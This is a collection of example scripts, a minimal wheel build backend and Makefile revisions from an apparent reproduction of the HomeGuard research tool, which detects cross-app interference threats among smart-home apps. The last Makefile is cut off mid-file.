