"""Quickstart: extract rules from a SmartApp and detect CAI threats.

Run with::

    python examples/quickstart.py
"""

from repro.corpus import app_by_name
from repro.detector.types import ThreatType
from repro.rules import extract_rules
from repro.service import (
    DecisionRequest,
    HomeGuardService,
    InstallRequest,
)


def main() -> None:
    # ------------------------------------------------------------------
    # 1. Rule extraction: symbolic execution over SmartApp source.
    print("## 1. Rule extraction (paper Table II)\n")
    ruleset = extract_rules(app_by_name("ComfortTV").source, "ComfortTV")
    for rule in ruleset:
        print(f"  trigger  : {rule.trigger.subject}.{rule.trigger.attribute}"
              f"  constraint={rule.trigger.constraint}")
        print(f"  condition: {[str(p) for p in rule.condition.predicate_constraints]}")
        print(f"  action   : {rule.action.subject} -> {rule.action.command}"
              f" (when={rule.action.when}, period={rule.action.period})")

    # ------------------------------------------------------------------
    # 2. Table I: the seven CAI threat categories.
    print("\n## 2. CAI threat categories (paper Table I)\n")
    for threat_type in ThreatType:
        if threat_type is ThreatType.CHAINED:
            continue
        print(f"  {threat_type.value:<3} {threat_type.category:<22} "
              f"{threat_type.pattern}")

    # ------------------------------------------------------------------
    # 3. End-to-end installation flow through the service API.
    print("\n## 3. Installing apps through HomeGuardService\n")
    service = HomeGuardService()           # workers="auto" by default
    service.preload([app_by_name("ComfortTV"), app_by_name("ColdDefender")])
    service.create_home("demo-home")
    service.register_device("demo-home", "Living-room TV", "tv")
    service.register_device("demo-home", "Hall sensor", "temperatureSensor")
    service.register_device("demo-home", "Back window", "windowOpener")

    session1 = service.install(InstallRequest(
        home_id="demo-home", app_name="ComfortTV",
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    ))
    print(f"ComfortTV installs clean: {session1.report.clean}")
    # The default InteractivePolicy defers to the user's one-time
    # decision (paper §VIII-D.1); answer it with a typed request.
    service.decide(DecisionRequest(
        home_id="demo-home", session_id=session1.session_id,
        decision="keep",
    ))

    session2 = service.install(InstallRequest(
        home_id="demo-home", app_name="ColdDefender",
        devices={"tv2": "Living-room TV", "window2": "Back window"},
        values={"weather": "rainy"},
    ))
    print(f"ColdDefender threats: "
          f"{[t.type for t in session2.report.threats]}\n")
    for record in session2.report.threats:
        print(f"  - {record.description}")
    service.close()


if __name__ == "__main__":
    main()
