"""The full configuration-collection pipeline (paper §VII), served
through the multi-tenant ``HomeGuardService`` API.

Shows every moving part of the deployment path:

1. the backend instruments the SmartApp (Listing 3),
2. the instrumented app runs in a simulated home and its ``updated()``
   sends the configuration URI over SMS,
3. the transport is connected to a tenant home on the service; the
   queued payload becomes a typed ``InstallSession`` with a wire-form
   ``ThreatReport``,
4. the user answers the pending session with a ``DecisionRequest`` —
   the one-time keep/reconfigure/delete decision — while a sibling
   home shows a handling *policy* deciding automatically.

Every request/response object is a frozen, versioned wire dataclass;
the JSON round-trip at the bottom is exactly what the ROADMAP's
many-host dispatcher would put on the wire.

Run with::

    python examples/install_flow.py
"""

import json

from repro.config import instrument_app
from repro.corpus import app_by_name
from repro.runtime import SmartHome
from repro.config.messaging import SmsTransport
from repro.service import (
    AutoDenyPolicy,
    DecisionRequest,
    HomeGuardService,
    InstallRequest,
    InstallSession,
)


def show(session: InstallSession) -> None:
    report = session.report
    print(f"  session {session.session_id}: app {report.app_name!r}, "
          f"status {session.status}")
    for rule in report.rules:
        print(f"    rule: {rule}")
    if report.clean:
        print("    no cross-app interference detected")
    for record in (*report.threats, *report.chains):
        print(f"    !! {record.description}")


def main() -> None:
    service = HomeGuardService(workers="auto")
    service.preload([app_by_name("BurglarFinder"), app_by_name("NightCare")])
    service.create_home("maple-street")

    # The physical home with its devices.
    home = SmartHome(seed=1)
    home.add_device("Floor lamp", "floorLamp")
    home.add_device("Hall motion", "motionSensor")
    home.add_device("Siren", "siren")

    # The SMS transport feeds configuration URIs into the tenant home.
    transport = SmsTransport(phone_number="+15550100")
    service.connect_transport("maple-street", transport)

    # ------------------------------------------------------------------
    # Install BurglarFinder first — via the real messaging path.
    print("## Installing BurglarFinder\n")
    instrumented = instrument_app(app_by_name("BurglarFinder").source,
                                  "BurglarFinder")
    print("instrumentation inserted inputs:",
          instrumented.device_inputs, "+", instrumented.value_inputs)
    instance = home.install_app(
        instrumented.source, "BurglarFinder",
        bindings={"lamp1": "Floor lamp", "motion1": "Hall motion",
                  "alarm1": "Siren"},
        settings={"patchedphone": "+15550100"},
    )
    instance.invoke("updated")  # fires collectConfigInfo -> sendSmsMessage
    sms_body = [m for m in home.messages if m.channel == "sms"][-1].body
    print(f"\nconfiguration URI sent over SMS:\n  {sms_body}\n")

    record = transport.send(sms_body, None)
    print(f"SMS delivered after {record.latency_ms:.0f} ms "
          f"(cloud processing 27 ms)")
    device_types = {home.device(label).id: home.device(label).type_name
                    for label in ("Floor lamp", "Hall motion", "Siren")}
    session = service.review_pending("maple-street", device_types)[0]
    show(session)

    # The default InteractivePolicy left the session pending: the user
    # answers with a typed, one-time DecisionRequest.
    session = service.decide(DecisionRequest(
        home_id="maple-street", session_id=session.session_id,
        decision="keep",
    ))
    print(f"  decided: {session.decision} (by "
          f"{session.decided_by or 'the user'})\n")

    # ------------------------------------------------------------------
    # Install NightCare on the same lamp: the DC threat appears.
    print("## Installing NightCare (same floor lamp)\n")
    instrumented2 = instrument_app(app_by_name("NightCare").source,
                                   "NightCare")
    instance2 = home.install_app(
        instrumented2.source, "NightCare",
        bindings={"lamp2": "Floor lamp"},
        settings={"patchedphone": "+15550100"},
    )
    instance2.invoke("updated")
    sms_body2 = [m for m in home.messages if m.channel == "sms"][-1].body
    transport.send(sms_body2, None)
    session2 = service.review_pending("maple-street", device_types)[0]
    show(session2)
    print("\nThe user can now Keep (accepting the risk), Reconfigure")
    print("(bind a different lamp), or Delete the new app — a one-time")
    print("decision, no runtime prompting (paper §VIII-D.1).")
    service.decide(DecisionRequest(
        home_id="maple-street", session_id=session2.session_id,
        decision="reconfigure",
    ))

    # ------------------------------------------------------------------
    # A second tenant home on the SAME service shares the backend and
    # the dispatcher, but handles threats by policy — no user in the
    # loop.
    print("\n## Tenant 'oak-avenue' with an AutoDenyPolicy\n")
    service.create_home("oak-avenue", policy=AutoDenyPolicy())
    auto = service.install(InstallRequest(
        home_id="oak-avenue", app_name="BurglarFinder",
        devices={"lamp1": "floorLamp", "motion1": "motionSensor",
                 "alarm1": "siren"},
    ))
    show(auto)
    denied = service.install(InstallRequest(
        home_id="oak-avenue", app_name="NightCare",
        devices={"lamp2": "floorLamp-0"},
    ))
    show(denied)
    print(f"  policy verdict: {denied.decision} (by {denied.decided_by})")
    assert service.installed_apps("oak-avenue") == ["BurglarFinder"]

    # ------------------------------------------------------------------
    # The wire contract: every session JSON-round-trips loss-free.
    encoded = json.dumps(session2.to_json())
    decoded = InstallSession.from_json(json.loads(encoded))
    assert decoded == session2
    print(f"\nwire round-trip ok ({len(encoded)} bytes, schema "
          f"v{decoded.to_json()['schema']})")
    service.close()


if __name__ == "__main__":
    main()
