"""The full configuration-collection pipeline (paper §VII).

Shows every moving part of the deployment path:

1. the backend instruments the SmartApp (Listing 3),
2. the instrumented app runs in a simulated home and its ``updated()``
   sends the configuration URI over SMS,
3. the HomeGuard companion app decodes the URI, pulls the rules from
   the backend, and runs detection against the installed history,
4. the user makes the one-time keep/reconfigure/delete decision.

Run with::

    python examples/install_flow.py
"""

from repro.config import decode_uri, instrument_app
from repro.corpus import app_by_name
from repro.frontend import render_review
from repro.frontend.app import HomeGuardApp, InstallDecision
from repro.rules.extractor import RuleExtractor
from repro.runtime import SmartHome
from repro.config.messaging import SmsTransport, MessageRecord


def main() -> None:
    backend = RuleExtractor()
    transport = SmsTransport(phone_number="+15550100")
    companion = HomeGuardApp(backend, transport)

    # Offline: the backend pre-extracts rules for store apps.
    for name in ("BurglarFinder", "NightCare"):
        app = app_by_name(name)
        backend.extract(app.source, app.name)

    # The physical home with its devices.
    home = SmartHome(seed=1)
    home.add_device("Floor lamp", "floorLamp")
    home.add_device("Hall motion", "motionSensor")
    home.add_device("Siren", "siren")

    # ------------------------------------------------------------------
    # Install BurglarFinder first.
    print("## Installing BurglarFinder\n")
    instrumented = instrument_app(app_by_name("BurglarFinder").source,
                                  "BurglarFinder")
    print("instrumentation inserted inputs:",
          instrumented.device_inputs, "+", instrumented.value_inputs)
    instance = home.install_app(
        instrumented.source, "BurglarFinder",
        bindings={"lamp1": "Floor lamp", "motion1": "Hall motion",
                  "alarm1": "Siren"},
        settings={"patchedphone": "+15550100"},
    )
    instance.invoke("updated")  # fires collectConfigInfo -> sendSmsMessage
    sms_body = [m for m in home.messages if m.channel == "sms"][-1].body
    print(f"\nconfiguration URI sent over SMS:\n  {sms_body}\n")

    record = transport.send(sms_body, None)
    print(f"SMS delivered after {record.latency_ms:.0f} ms "
          f"(cloud processing 27 ms)")
    device_types = {home.device(label).id: home.device(label).type_name
                    for label in ("Floor lamp", "Hall motion", "Siren")}
    review = companion.review_pending(device_types)[0]
    print(render_review(review))
    companion.decide(review, InstallDecision.KEEP)

    # ------------------------------------------------------------------
    # Install NightCare on the same lamp: the DC threat appears.
    print("\n## Installing NightCare (same floor lamp)\n")
    instrumented2 = instrument_app(app_by_name("NightCare").source,
                                   "NightCare")
    instance2 = home.install_app(
        instrumented2.source, "NightCare",
        bindings={"lamp2": "Floor lamp"},
        settings={"patchedphone": "+15550100"},
    )
    instance2.invoke("updated")
    sms_body2 = [m for m in home.messages if m.channel == "sms"][-1].body
    transport.send(sms_body2, None)
    review2 = companion.review_pending(device_types)[0]
    print(render_review(review2))
    print("\nThe user can now Keep (accepting the risk), Reconfigure")
    print("(bind a different lamp), or Delete the new app — a one-time")
    print("decision, no runtime prompting (paper §VIII-D.1).")


if __name__ == "__main__":
    main()
