"""Repository-wide CAI audit (the paper's §VIII-B study).

Runs pairwise CAI detection over the 90 device-controlling apps of the
corpus — the repository-analysis mode where "same device" means "same
device type" — and prints the most interference-prone apps, mirroring
the paper's observation that switch- and mode-controlling apps tend to
be involved in every kind of threat.

Run with::

    python examples/store_audit.py
"""

from collections import Counter, defaultdict

from repro.constraints import TypeBasedResolver
from repro.corpus import device_controlling_apps
from repro.detector import DetectionEngine
from repro.rules.extractor import RuleExtractor


def main() -> None:
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in device_controlling_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values

    engine = DetectionEngine(TypeBasedResolver(type_hints=hints, values=values))
    per_class: Counter = Counter()
    per_app: Counter = Counter()
    examples: dict[str, str] = {}

    for i in range(len(rulesets)):
        for j in range(i + 1, len(rulesets)):
            for rule_a in rulesets[i].rules:
                for rule_b in rulesets[j].rules:
                    for threat in engine.detect_pair(rule_a, rule_b):
                        per_class[threat.type.value] += 1
                        per_app[threat.rule_a.app_name] += 1
                        per_app[threat.rule_b.app_name] += 1
                        examples.setdefault(
                            threat.type.value,
                            f"{threat.rule_a.app_name} vs "
                            f"{threat.rule_b.app_name}: {threat.detail}",
                        )

    print("## Threat instances by class\n")
    for key in ("AR", "GC", "CT", "SD", "LT", "EC", "DC"):
        print(f"  {key}: {per_class.get(key, 0):>5}   e.g. {examples.get(key, '-')}")

    print("\n## Ten most interference-prone apps\n")
    category = {app.name: app.category for app in device_controlling_apps()}
    for name, count in per_app.most_common(10):
        print(f"  {name:<24} {count:>5} threat instances ({category[name]})")

    print(f"\nsolver calls: {engine.stats.solver_calls}, "
          f"cache hits: {engine.stats.cache_hits}")


if __name__ == "__main__":
    main()
