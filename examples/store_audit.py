"""Repository-wide CAI audit (the paper's §VIII-B study).

Runs pairwise CAI detection over the 90 device-controlling apps of the
corpus — the repository-analysis mode where "same device" means "same
device type" — and prints the most interference-prone apps, mirroring
the paper's observation that switch- and mode-controlling apps tend to
be involved in every kind of threat.

The audit runs on the incremental :class:`DetectionPipeline`: each app
is installed in turn and detection only examines index-selected
candidate pairs, so the union of the reports covers every rule pair
exactly once without the seed's all-pairs scan (DESIGN.md).

The audited pipeline is then snapshotted to a :class:`DetectionStore`
and *warm-started* in a fresh pipeline: the re-audit replays entirely
from the persisted solve caches — zero solver calls, identical threat
set (DESIGN.md §8).

Finally the same cold audit re-runs in plan/execute mode with process
workers (``dispatcher="process:2"``): the solver loop fans out to a
worker pool, and the reported threat set must be identical to the
serial run — backends are a pure performance choice (DESIGN.md §9).

Run with::

    python examples/store_audit.py
"""

import tempfile
import time
from collections import Counter

from repro.constraints import TypeBasedResolver
from repro.corpus import device_controlling_apps
from repro.detector import DetectionPipeline, DetectionStore
from repro.rules.extractor import RuleExtractor


def main() -> None:
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in device_controlling_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values

    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values)
    )
    per_class: Counter = Counter()
    per_app: Counter = Counter()
    examples: dict[str, str] = {}

    started = time.perf_counter()
    for report in pipeline.audit_store(rulesets):
        for threat in report.threats:
            per_class[threat.type.value] += 1
            per_app[threat.rule_a.app_name] += 1
            per_app[threat.rule_b.app_name] += 1
            examples.setdefault(
                threat.type.value,
                f"{threat.rule_a.app_name} vs "
                f"{threat.rule_b.app_name}: {threat.detail}",
            )
    elapsed = time.perf_counter() - started

    print("## Threat instances by class\n")
    for key in ("AR", "GC", "CT", "SD", "LT", "EC", "DC"):
        print(f"  {key}: {per_class.get(key, 0):>5}   e.g. {examples.get(key, '-')}")

    print("\n## Ten most interference-prone apps\n")
    category = {app.name: app.category for app in device_controlling_apps()}
    for name, count in per_app.most_common(10):
        print(f"  {name:<24} {count:>5} threat instances ({category[name]})")

    stats = pipeline.stats
    print(
        f"\naudited {len(rulesets)} apps in {elapsed:.2f}s: "
        f"{stats.pairs_examined} candidate pairs examined, "
        f"solver calls: {stats.solver_calls}, cache hits: {stats.cache_hits}"
    )

    # ------------------------------------------------------------------
    # Persist the audit and warm-start it in a fresh pipeline: the
    # re-audit must do ZERO solver calls (everything replays from the
    # store's caches) and report the identical threat set.
    print("\n## Warm-start re-audit from the persisted store\n")
    with tempfile.TemporaryDirectory() as store_dir:
        store = DetectionStore(store_dir)
        store.save(pipeline, rulesets={r.app_name: r for r in rulesets})

        started = time.perf_counter()
        warm = store.warm_start(pipeline.engine.resolver)
        warm_elapsed = time.perf_counter() - started
        warm_count = sum(len(report.threats) for report in warm.reports)
        cold_count = sum(per_class.values())
        print(
            f"  warm re-audit of {len(warm.reports)} apps in "
            f"{warm_elapsed:.2f}s: solver calls: "
            f"{warm.pipeline.stats.solver_calls} (cold run: "
            f"{stats.solver_calls}), threat instances: {warm_count} "
            f"(cold run: {cold_count})"
        )
        assert warm.pipeline.stats.solver_calls == 0
        assert warm_count == cold_count

    # ------------------------------------------------------------------
    # Batched parallel dispatch (DESIGN.md §9): plan the whole audit,
    # fan the solve batch out to worker processes, and get the exact
    # same threats back.
    print("\n## Cold re-audit with batched process workers\n")
    parallel = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values),
        dispatcher="process:2",
    )
    try:
        started = time.perf_counter()
        parallel_count = sum(
            len(report.threats) for report in parallel.audit_store(rulesets)
        )
        parallel_elapsed = time.perf_counter() - started
        pstats = parallel.stats
        print(
            f"  2-worker audit in {parallel_elapsed:.2f}s "
            f"(plan {pstats.plan_seconds:.2f}s, blocked on workers "
            f"{pstats.dispatch_seconds:.2f}s, solver CPU "
            f"{pstats.solver_cpu_seconds():.2f}s): threat instances: "
            f"{parallel_count} (serial run: {sum(per_class.values())})"
        )
        assert parallel_count == sum(per_class.values())
        assert pstats.solver_calls == stats.solver_calls
    finally:
        parallel.close()


if __name__ == "__main__":
    main()
