"""Runtime interference monitoring (DESIGN.md §16).

Static detection *predicts* cross-app interference at install time;
the runtime monitor watches the home's live event stream and reports
which predictions actually fire.  This walk installs the paper's
window-racing pair (ComfortTV opens the window when the TV heats the
room, ColdDefender closes it when it rains), keeps both under an
evidence-aware policy, then:

1. streams the threat's witness sequence through the monitor — the
   statically predicted actuator race is *confirmed*, exactly once,
   no matter how often the batch is retried;
2. streams an anomalous burst the solver could never see — toggle
   spam on one actuator — which the anomaly catalog flags;
3. re-reviews the risky app: the ``EvidencePolicy`` escalates the
   confirmed threat past its severity line and auto-deletes, with the
   policy's name persisted as ``decided_by`` provenance.

Run with::

    python examples/monitor_live.py
"""

from repro.corpus import app_by_name
from repro.service import (
    EvidencePolicy,
    HomeGuardService,
    InstallRequest,
    MonitorEventRequest,
    SeverityThresholdPolicy,
)

NOON = 12 * 3600.0


def main() -> None:
    # Severity line at 5: an actuator race (severity 4) is kept on
    # prediction alone — but gains 2 ranks once the monitor confirms it.
    policy = EvidencePolicy(SeverityThresholdPolicy(threshold=5))
    with HomeGuardService(workers=None, policy=policy) as service:
        service.preload(
            [app_by_name("ComfortTV"), app_by_name("ColdDefender")]
        )
        service.create_home("casa")
        service.register_device("casa", "TV", "tv")
        service.register_device("casa", "Temp", "temperatureSensor")
        window = service.register_device("casa", "Window", "windowOpener")

        service.install(InstallRequest(
            home_id="casa", app_name="ComfortTV",
            devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
            values={"threshold1": 30},
        ))
        session = service.install(InstallRequest(
            home_id="casa", app_name="ColdDefender",
            devices={"tv2": "TV", "window2": "Window"},
            values={"weather": "rainy"},
        ))
        threats = [t.type for t in session.report.threats]
        print(f"install: {session.decision} by {session.decided_by}; "
              f"predicted threats: {threats}")

        # --- 1. The predicted race actually happens: the window opens
        # (ComfortTV) and closes again (ColdDefender) within the
        # monitor's window.  One batch, one confirmation — and the
        # resent batch (a transport retry) changes nothing.
        witness = MonitorEventRequest(
            home_id="casa",
            events=(
                (window.device_id, "switch", "on", NOON),
                (window.device_id, "switch", "off", NOON + 30.0),
            ),
            batch_id="trace-001",
        )
        for attempt in ("first send", "retry"):
            observations = service.ingest_events(witness)
            for obs in observations:
                if obs.outcome == "confirmed":
                    print(f"{attempt}: CONFIRMED {obs.threat_key} "
                          f"({obs.detail})")

        # --- 2. An anomaly no solver predicted: the window actuator
        # flaps 12 times in 11 seconds.
        spam = MonitorEventRequest(
            home_id="casa",
            events=tuple(
                (window.device_id, "switch",
                 "on" if i % 2 == 0 else "off", NOON + 120.0 + i)
                for i in range(12)
            ),
            batch_id="trace-002",
        )
        for obs in service.ingest_events(spam):
            print(f"{obs.outcome}: {obs.rule}: {obs.detail}")

        stats = service.detection_stats_record("casa")
        print(f"monitor counters: events={stats.monitor_events} "
              f"observations={stats.monitor_observations} "
              f"confirmed={stats.threats_confirmed} "
              f"anomalies={stats.anomalies_flagged}")

        # --- 3. Evidence feedback: the same app reviewed again is now
        # over the line — the static verdict is revised by what the
        # home actually did.
        evidence = service.home("casa").evidence()
        for note in policy.proposals(
            service.home("casa").reviews[-1], evidence
        ):
            print(f"proposal: {note}")
        session = service.install(InstallRequest(
            home_id="casa", app_name="ColdDefender",
            devices={"tv2": "TV", "window2": "Window"},
            values={"weather": "rainy"},
        ))
        print(f"re-review: {session.decision} by {session.decided_by}")


if __name__ == "__main__":
    main()
