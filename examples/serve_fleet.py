"""Serving a fleet over a socket (DESIGN.md §13).

One :class:`HomeGuardService` process absorbs a whole fleet's install
traffic through the stdlib-only JSON-RPC transport: the server speaks
the frozen wire schemas, answers every failure with a typed
``ServiceError`` record, throttles each tenant with a token-bucket
quota, and schedules admitted work onto the one shared solver
dispatcher in weighted-fair order.

The walk below drives two tenants and one misbehaving flood client
against a live loopback server, then reads the server's own
``ServerStatusRecord`` accounting and drains it gracefully.

Run with::

    python examples/serve_fleet.py
"""

from repro.service import (
    AuditRequest,
    DecisionRequest,
    InstallRequest,
    QuotaExceededError,
    UnknownHomeError,
)
from repro.service.service import HomeGuardService
from repro.service.transport import (
    FleetClient,
    TenantQuota,
    serve_background,
)

TEAKETTLE = """
definition(name: "Morning Teakettle", namespace: "demo", author: "demo")
preferences {
    section("kettle") { input "kettle", "capability.switch" }
    section("motion") { input "motion1", "capability.motionSensor" }
}
def installed() { subscribe(motion1, "motion.active", wake) }
def wake(evt) { kettle.on() }
"""

NIGHT_GUARD = """
definition(name: "Night Guard", namespace: "demo", author: "demo")
preferences {
    section("kettle") { input "kettle", "capability.switch" }
}
def installed() { subscribe(kettle, "switch.on", cut) }
def cut(evt) { kettle.off() }
"""


def main() -> None:
    service = HomeGuardService(workers=None)

    # One server, many tenants: `quota` is every tenant's default
    # allowance; "flood-home" gets a deliberately tiny non-refilling
    # bucket so the quota path is visible below.
    with serve_background(
        service,
        own_service=True,
        quota=TenantQuota(rate=100.0, burst=200, max_inflight=16),
        tenant_quotas={"flood-home": TenantQuota(rate=0.0, burst=3)},
    ) as fleet:
        print(f"fleet server listening on {fleet.url}")

        # --- Tenant "alice": a conflicting pair, decided over the wire.
        with FleetClient(fleet.host, fleet.port) as alice:
            alice.create_home("alice")
            alice.register_device("alice", "Kettle", "switch")
            alice.register_device("alice", "Hall Motion", "motionSensor")
            for name, source in (("teakettle", TEAKETTLE),
                                 ("night-guard", NIGHT_GUARD)):
                session = alice.install(InstallRequest(
                    home_id="alice", app_name=name, source=source,
                    devices={"kettle": "Kettle",
                             "motion1": "Hall Motion"},
                ))
                print(f"alice/{name}: {session.status}, "
                      f"{len(session.report.threats)} threat(s)")
                session = alice.decide(DecisionRequest(
                    home_id="alice", session_id=session.session_id,
                    decision="keep",
                ))
            reports = alice.audit(AuditRequest(home_id="alice"))
            total = sum(len(r.threats) + len(r.chains) for r in reports)
            print(f"alice audit: {len(reports)} report(s), "
                  f"{total} threat(s)")

        # --- Tenant "bob" is isolated: alice's custom apps are private,
        # and a typed taxonomy error crosses the socket intact.
        with FleetClient(fleet.host, fleet.port) as bob:
            bob.create_home("bob")
            try:
                bob.installed_apps("alice-typo")
            except UnknownHomeError as error:
                print(f"typed error over the wire: [{error.code}] "
                      f"{error.message}")

        # --- The flood tenant exhausts its 3-token bucket.
        with FleetClient(fleet.host, fleet.port) as flood:
            served = rejected = 0
            for _ in range(8):
                try:
                    flood.call("sessions", {"home_id": "flood-home"})
                    served += 1
                except QuotaExceededError:
                    rejected += 1
            print(f"flood tenant: {served} served, {rejected} "
                  f"quota-rejected (bucket depth 3, no refill)")

        # --- The server accounts for all of it.
        with FleetClient(fleet.host, fleet.port) as operator:
            record = operator.status()
            print(f"status: state={record.state} "
                  f"homes={record.homes} "
                  f"requests={record.requests_total} "
                  f"quota_rejections={record.quota_rejections} "
                  f"internal_errors={record.internal_errors}")

        # --- Graceful drain: in-flight work finishes, new intake gets
        # a retryable `unavailable`, then the context manager closes
        # the server and (own_service=True) the service behind it.
        fleet.drain()
        print("drained; shutting down")


if __name__ == "__main__":
    main()
