"""Multi-platform rule extraction: IFTTT applets (paper §VIII-D.4).

Parses IFTTT-style template sentences with the lightweight NLP pipeline
and shows an applet racing a SmartThings SmartApp inside the same
detection engine — the multi-platform story of Table IV.

Run with::

    python examples/ifttt_rules.py
"""

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine
from repro.frontend import describe_threat
from repro.ifttt import Applet, extract_applet_rule
from repro.rules import describe_rule, extract_rules

APPLETS = [
    Applet("HallNight", "If motion is detected, then turn on the light"),
    Applet("HeatVent", "If the temperature rises above 85, then turn on the fan"),
    Applet("AutoLock", "If I leave home, then lock the front door"),
    Applet("EveningShades", "If the sun sets, then close the shades"),
    Applet("LeakAlert", "If a water leak is detected, then notify me"),
]

SMARTAPP = '''
definition(name: "TheaterMode")
input "m1", "capability.motionSensor"
input "l1", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { l1.off() }
'''


def main() -> None:
    print("## IFTTT applets -> rules\n")
    rules = {}
    for applet in APPLETS:
        rule = extract_applet_rule(applet)
        rules[applet.name] = rule
        print(f"  {applet.name:<14} {describe_rule(rule)}")

    print("\n## Cross-platform CAI detection\n")
    smart_rule = extract_rules(SMARTAPP, "TheaterMode").rules[0]
    resolver = TypeBasedResolver(type_hints={
        "TheaterMode": {"m1": "motionSensor", "l1": "light"},
        "HallNight": {"HallNight_trigger": "motionSensor",
                      "HallNight_light": "light"},
    })
    engine = DetectionEngine(resolver)
    threats = engine.detect_pair(rules["HallNight"], smart_rule)
    for threat in threats:
        print("  " + describe_threat(threat))
    if not threats:
        print("  no threats (unexpected)")


if __name__ == "__main__":
    main()
