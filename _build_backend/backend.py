"""Minimal in-tree PEP 517/660 build backend.

The execution environment has no network access and no ``wheel``
package, so the stock setuptools backend cannot produce (editable)
wheels.  Wheels are just zip files with a small amount of metadata; this
backend writes them directly, supporting both ``pip install .`` and
``pip install -e .`` for this single pure-Python project.
"""

from __future__ import annotations

import base64
import hashlib
import os
import zipfile

NAME = "repro"
VERSION = "1.0.0"
DIST_INFO = f"{NAME}-{VERSION}.dist-info"
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

_METADATA = f"""Metadata-Version: 2.1
Name: {NAME}
Version: {VERSION}
Summary: HomeGuard: cross-app interference threat detection for smart homes (DSN 2020 reproduction)
Requires-Python: >=3.10
"""

_WHEEL = """Wheel-Version: 1.0
Generator: repro-in-tree-backend
Root-Is-Purelib: true
Tag: py3-none-any
"""


def _record_hash(data: bytes) -> str:
    digest = hashlib.sha256(data).digest()
    encoded = base64.urlsafe_b64encode(digest).rstrip(b"=").decode("ascii")
    return f"sha256={encoded}"


class _WheelWriter:
    """Accumulates files and writes a spec-compliant .whl archive."""

    def __init__(self, path: str) -> None:
        self._zip = zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED)
        self._records: list[str] = []

    def add(self, arcname: str, data: bytes) -> None:
        self._zip.writestr(arcname, data)
        self._records.append(f"{arcname},{_record_hash(data)},{len(data)}")

    def close(self) -> None:
        record_name = f"{DIST_INFO}/RECORD"
        self._records.append(f"{record_name},,")
        self._zip.writestr(record_name, "\n".join(self._records) + "\n")
        self._zip.close()

    def add_dist_info(self) -> None:
        self.add(f"{DIST_INFO}/METADATA", _METADATA.encode())
        self.add(f"{DIST_INFO}/WHEEL", _WHEEL.encode())


# ----------------------------------------------------------------------
# PEP 517 hooks


def get_requires_for_build_wheel(config_settings=None):
    return []


def get_requires_for_build_editable(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    filename = f"{NAME}-{VERSION}-py3-none-any.whl"
    writer = _WheelWriter(os.path.join(wheel_directory, filename))
    package_root = os.path.join(ROOT, "src")
    for dirpath, _dirnames, filenames in os.walk(os.path.join(package_root, NAME)):
        for name in sorted(filenames):
            if not name.endswith(".py"):
                continue
            full = os.path.join(dirpath, name)
            arcname = os.path.relpath(full, package_root).replace(os.sep, "/")
            with open(full, "rb") as handle:
                writer.add(arcname, handle.read())
    writer.add_dist_info()
    writer.close()
    return filename


def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    filename = f"{NAME}-{VERSION}-0.editable-py3-none-any.whl"
    writer = _WheelWriter(os.path.join(wheel_directory, filename))
    src_path = os.path.join(ROOT, "src")
    writer.add(f"__editable__.{NAME}.pth", (src_path + "\n").encode())
    writer.add_dist_info()
    writer.close()
    return filename


def build_sdist(sdist_directory, config_settings=None):  # pragma: no cover
    raise NotImplementedError("sdist builds are not supported by this backend")
