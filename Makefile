PYTHON ?= python
export PYTHONPATH := src$(if $(PYTHONPATH),:$(PYTHONPATH),)

.PHONY: test bench bench-smoke lint

# Tier-1 verification: the full unit/integration suite.
test:
	$(PYTHON) -m pytest -x -q

# Full benchmark sweep (paper figures/tables + store-scale audit).
bench:
	$(PYTHON) -m pytest -q benchmarks/bench_*.py

# Quick benchmark smoke for CI: small store sizes, one pass.
bench-smoke:
	BENCH_STORE_SIZES=30 $(PYTHON) -m pytest -q benchmarks/bench_*.py

# Byte-compile everything as a cheap syntax/import lint (no external
# linters baked into the image).
lint:
	$(PYTHON) -m compileall -q src tests benchmarks examples
	$(PYTHON) -c "import repro, repro.detector, repro.frontend, repro.runtime"
