PYTHON ?= python
export PYTHONPATH := src$(if $(PYTHONPATH),:$(PYTHONPATH),)

.PHONY: test bench bench-smoke lint docs-check

# Tier-1 verification: the full unit/integration suite.
test:
	$(PYTHON) -m pytest -x -q

# Full benchmark sweep (paper figures/tables + store-scale audit).
bench:
	$(PYTHON) -m pytest -q benchmarks/bench_*.py

# Quick benchmark smoke for CI: small store sizes, one pass.
bench-smoke:
	BENCH_STORE_SIZES=30 $(PYTHON) -m pytest -q benchmarks/bench_*.py

# Docs smoke: run the example scripts the README points at, end to
# end, so the quickstart instructions can't rot.  store_audit also
# asserts the warm-start replay does zero solver calls (DESIGN.md §8).
docs-check:
	$(PYTHON) examples/quickstart.py > /dev/null
	$(PYTHON) examples/store_audit.py > /dev/null
	@echo "docs-check: README example scripts ran clean"

# Byte-compile everything as a cheap syntax/import lint (no external
# linters baked into the image).
lint:
	$(PYTHON) -m compileall -q src tests benchmarks examples
	$(PYTHON) -c "import repro, repro.detector, repro.frontend, repro.runtime"
