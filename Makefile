PYTHON ?= python
export PYTHONPATH := src$(if $(PYTHONPATH),:$(PYTHONPATH),)

.PHONY: test test-hashseed test-faults bench bench-smoke bench-fleet \
	bench-store bench-monitor serve-smoke lint docs-check schema-check

# Tier-1 verification: the full unit/integration suite.
test:
	$(PYTHON) -m pytest -x -q

# Dispatcher-, service- and monitor-equivalence tests under both the
# default (randomized) and a pinned hash seed: set/dict iteration
# order must never leak into the deterministic batch merge, into a
# tenant home's results (threats, caches, store bytes), or into the
# runtime monitor's observation stream (trace replay must stay
# byte-identical to live ingestion).
test-hashseed:
	$(PYTHON) -m pytest -q tests/test_dispatch_equivalence.py \
